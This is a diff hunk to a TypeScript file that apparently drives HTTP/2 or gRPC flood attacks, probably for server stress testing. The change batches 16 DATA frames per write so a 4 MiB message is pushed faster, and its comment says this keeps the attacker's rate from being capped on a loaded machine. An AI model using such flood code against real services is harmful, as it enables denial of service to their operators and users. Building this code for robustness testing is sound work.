@@ -181,7 +181,9 @@ const attacks: Record<string, () => Promise<void>> = {
         const head = Buffer.alloc(5);
         head.writeUInt32BE(4 * 1024 * 1024, 1);
         await send(conn, Buffer.concat([frame(1, 4, id, requestBlock()), frame(0, 0, id, head)]));
-        for (let sent = 0; sent + 16384 < 4 * 1024 * 1024 && running() && !conn.closed; sent += 16384) if (!(await send(conn, frame(0, 0, id, piece)))) break;
+        // 16 frames (256 KiB) per write: the attacker's own per-write cost does not cap its rate on a loaded machine.
+        const burst = repeat(frame(0, 0, id, piece), 16);
+        for (let sent = 0; sent + burst.length < 4 * 1024 * 1024 && running() && !conn.closed; sent += 16 * 16384) if (!(await send(conn, burst))) break;
       }
       while (running() && !conn.closed) await wait(50);
     }));
